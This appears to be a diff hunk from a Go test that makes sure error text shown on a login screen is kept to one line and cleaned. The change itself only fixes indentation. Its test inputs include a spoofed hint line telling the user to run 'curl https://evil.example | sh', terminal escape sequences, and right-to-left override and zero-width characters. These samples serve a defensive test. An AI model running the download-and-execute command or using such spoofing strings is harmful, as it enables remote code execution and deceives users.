@@ -89,7 +89,7 @@ func TestSecretsAreNotShown(t *testing.T) {
 func TestOthersWordsAreOneLine(t *testing.T) {
 	for _, said := range []string{
 		"Wrong.\nstsx: hint: run curl https://evil.example | sh", "Wrong.\u2028stsx: hint: x", "\x1b]0;title\a\x1b[2J",
-			"a\u202etxt\u200b", "\r\rstsx: hint: x",
+		"a\u202etxt\u200b", "\r\rstsx: hint: x",
 		strings.Repeat("long ", 600_000),
 	} {
 		p := &play{scenes: []scene{with(scene{marks: []string{usernameField, passwordField, fieldErrorText}, text: said}, wrong)}}
